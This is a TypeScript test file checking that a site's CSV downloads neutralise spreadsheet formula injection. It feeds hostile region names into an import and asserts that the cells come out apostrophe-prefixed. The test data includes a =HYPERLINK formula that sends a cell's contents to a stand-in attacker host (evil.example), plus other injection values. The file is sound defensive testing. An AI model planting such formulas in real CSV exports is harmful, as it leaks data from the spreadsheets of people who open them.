/**
 * Issue 13 item 5: no CSV the site serves starts a cell with a formula (=, +, -, @, tab, CR; OWASP's
 * CSV-injection advice). Runs the real endpoints (/data/<id>.csv, /charts/<id>/data.csv) on the
 * bundled data, and /data/<id>.csv on a data folder after an import of a hostile region name.
 */
import { afterAll, describe, expect, it, vi } from "vitest";
import { cpSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { spawnSync } from "node:child_process";
import Papa from "papaparse";
import { generateSchools, fixtureCsv } from "../../src/lib/mi/fixture.ts";
import { encodeWindows1252 } from "../../src/lib/mi/encoding.ts";

// Each case runs the real command in child processes: allow for a loaded machine.
vi.setConfig({ testTimeout: 120_000 });

/** A cell a spreadsheet would run: starts with =, +, @, tab or CR, or - not followed by a plain number. */
const FORMULA = /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/;

async function served(route: "data" | "chart", id: string): Promise<string> {
  const mod = route === "data" ? await import("../../src/pages/data/[id].csv.ts") : await import("../../src/pages/charts/[id]/data.csv.ts");
  const res = await (mod.GET as (ctx: { params: Record<string, string> }) => Response | Promise<Response>)({ params: { id } });
  return (await res.text()).replace(/^\uFEFF/, "");
}
const cells = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();

describe("bundled downloads", () => {
  it("no cell of /data/<id>.csv or /charts/<id>/data.csv starts a formula", async () => {
    const { availableDatasetIds } = await import("../../src/render/load.ts");
    const { CHARTS } = await import("../../src/render/charts.ts");
    const bad: string[] = [];
    for (const id of availableDatasetIds()) for (const c of cells(await served("data", id))) if (FORMULA.test(c)) bad.push(`/data/${id}.csv: ${JSON.stringify(c)}`);
    for (const ch of CHARTS) for (const c of cells(await served("chart", ch.id))) if (FORMULA.test(c)) bad.push(`/charts/${ch.id}/data.csv: ${JSON.stringify(c)}`);
    expect(bad).toEqual([]);
  }, 60_000);
});

describe("imported downloads", () => {
  const dir = mkdtempSync(join(tmpdir(), "bow-dl-"));
  const data = join(dir, "data");
  const previous = process.env.BOW_DATA_DIR;
  afterAll(() => {
    if (previous === undefined) delete process.env.BOW_DATA_DIR;
    else process.env.BOW_DATA_DIR = previous;
    rmSync(dir, { recursive: true, force: true });
  });
  it("a region named =HYPERLINK(...) reaches /data/mi-*.csv as text, not a live formula", async () => {
    cpSync("data", data, { recursive: true });
    rmSync(join(data, "release.json"), { force: true });
    const schools = generateSchools(40, 13);
    for (const s of schools.slice(0, 20)) s.region = '=HYPERLINK("http://evil.example/?x="&C2,"Click")';
    for (const s of schools.slice(20, 30)) s.region = "@SUM(1+1)";
    for (const s of schools.slice(30)) s.region = "-2+3";
    const src = join(dir, "Management_information_as_at_31_Jan_2026.csv");
    writeFileSync(src, encodeWindows1252(fixtureCsv(schools).text));
    const r = spawnSync(process.execPath, ["scripts/data-import.ts", src, "--out-dir", data], { encoding: "utf8" });
    expect(r.status, r.stderr).toBe(0);
    process.env.BOW_DATA_DIR = data;
    const overview = await served("data", "mi-overview");
    const all = cells(overview);
    expect(all.filter((c) => FORMULA.test(c))).toEqual([]);
    expect(all).toContain(`'=HYPERLINK("http://evil.example/?x="&C2,"Click")`);
    expect(all).toContain("'@SUM(1+1)");
    expect(all).toContain("'-2+3");
  });
});

describe("the neutraliser", () => {
  it("prefixes = + @ tab CR and - (unless a plain number) with ', leaves the rest", async () => {
    const { neutraliseCell } = await import("../../src/lib/csv.ts");
    for (const v of ["=1+1", "+4 points", "@SUM(A1)", "\tx", "\rx", "-x", "-2+3", "--1", "-"]) expect(neutraliseCell(v), JSON.stringify(v)).toBe(`'${v}`);
    for (const v of ["-3", "-3.5", "3", "a=b", "", " =x", "'=x"]) expect(neutraliseCell(v), JSON.stringify(v)).toBe(v);
  });
  it("downloadCsv and downloadCsvText write the neutralised cells, which read back as written", async () => {
    const { downloadCsv, downloadCsvText, readCsv } = await import("../../src/lib/csv.ts");
    const rows = [{ a: '=HYPERLINK("http://evil.example/?x="&C2,"Click")', b: -3.5 }, { a: "plain, text", b: "+4" }];
    const csv = downloadCsv(rows, ["a", "b"]);
    expect(csv.startsWith("\uFEFFa,b\n")).toBe(true);
    expect(readCsv(csv.slice(1), "d.csv").records).toEqual([[`'=HYPERLINK("http://evil.example/?x="&C2,"Click")`, "-3.5"], ["plain, text", "'+4"]]);
    expect(readCsv(downloadCsvText('a,b\n"=x",1\n', "t.csv").slice(1), "t.csv").records).toEqual([["'=x", "1"]]);
    expect(downloadCsvText("a,b\nx,-1\n", "t.csv")).toBe("\uFEFFa,b\nx,-1\n");
  });
});
